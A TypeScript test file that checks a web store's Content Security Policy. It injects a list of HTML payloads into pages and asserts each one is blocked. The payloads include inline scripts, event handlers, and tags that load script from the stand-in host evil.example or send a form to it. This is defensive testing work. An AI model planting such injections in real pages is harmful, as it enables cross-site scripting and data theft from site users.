import { afterAll, afterEach, beforeAll, expect, test } from "vitest";

import { STORE_POLICY } from "./csp.ts";
import type { WatchedPage } from "../testing/browser.ts";
import { openSite, type OpenSite } from "../testing/open-site.ts";

let store: OpenSite;

beforeAll(async () => {
  store = await openSite();
});
afterEach(() => store.closeWindows());
afterAll(() => store.close());

test("every page says what it may load and run, and none allows what is written into it", () => {
  const pages = [...store.site.pages].filter(([path]) => path.endsWith(".html"));
  const wrong = pages.filter(([, bytes]) => {
    const policy = policyOf(Buffer.from(bytes).toString());
    return !policy.startsWith("default-src 'self';") || /unsafe-inline|'unsafe-eval'/.test(policy);
  });
  expect(wrong.map(([path]) => path)).toEqual([]);
  const ofTheStore = pages.filter(([path]) => !path.startsWith("docs/"));
  expect(new Set(ofTheStore.map(([, bytes]) => policyOf(Buffer.from(bytes).toString())))).toEqual(
    new Set([STORE_POLICY]),
  );
});

test("elements of the store have no styles but those of its style sheets", () => {
  const styled = [...store.site.pages].filter(
    ([path, bytes]) =>
      path.endsWith(".html") && !path.startsWith("docs/") && / style="|<style/.test(Buffer.from(bytes).toString()),
  );
  expect(styled.map(([path]) => path)).toEqual([]);
});

/** What an attacker may get into a page, by the directive that has to stop it. */
const smuggled = [
  ["script-src-elem", `<script>document.title = "owned"</script>`],
  ["script-src-elem", `<script type="module">document.title = "owned"</script>`],
  ["script-src-elem", `<script src="https://evil.example/x.js"></script>`],
  ["script-src-attr", `<img src="/favicon.svg" onload="document.title = 'owned'">`],
  ["style-src-elem", `<style>main { display: none }</style>`],
  ["style-src-attr", `<p style="position: fixed; inset: 0">owned</p>`],
  ["img-src", `<img src="https://evil.example/pixel.png">`],
  ["base-uri", `<base href="https://evil.example/">`],
  ["frame-src", `<iframe src="https://evil.example/"></iframe>`],
  ["object-src", `<object data="https://evil.example/x"></object>`],
  ["form-action", `<form id="sent" action="https://evil.example/"></form>`],
] as const;

test.each(["/", "/docs/getting-started/"])("what is smuggled into %s does nothing", async (path) => {
  const html = smuggled.map(([, text]) => text).join("");
  const { page } = await open(path, (text) => text.replace(/<main[^>]*>/, (main) => `${main}${html}`));
  await page.locator("#sent").evaluate((form) => (form as HTMLFormElement).requestSubmit());
  const stopped = (): Promise<readonly string[]> =>
    page.evaluate(() => [...(window as unknown as Watch).stopped].sort());
  const expected = smuggled.map(([directive]) => directive).toSorted();
  await expect.poll(stopped).toEqual(expected);
  expect(await page.title()).not.toBe("owned");
  expect(await page.locator("main").isVisible()).toBe(true);
  expect(page.url()).toBe(`${store.url}${path}`);
});

test("no other page can frame the store", async () => {
  const { headers } = await fetch(store.url);
  expect(headers.get("content-security-policy")).toBe("frame-ancestors 'none'");
});

interface Watch {
  readonly stopped: string[];
}

/** Opens a page, changed on its way by `change`, that notes what its policy stops. */
function open(path: string, change: (html: string) => string): Promise<WatchedPage> {
  return store.open(path, {}, async (page) => {
    await page.addInitScript(() => {
      const stopped: string[] = [];
      Object.assign(window, { stopped });
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
    });
    await page.route(`${store.url}${path}`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: change(await response.text()) });
    });
  });
}

function policyOf(html: string): string {
  const head = /<head><meta charset="utf-8"\/?><meta http-equiv="content-security-policy" content="([^"]*)">/i.exec(
    html,
  );
  return head?.[1] ?? "";
}
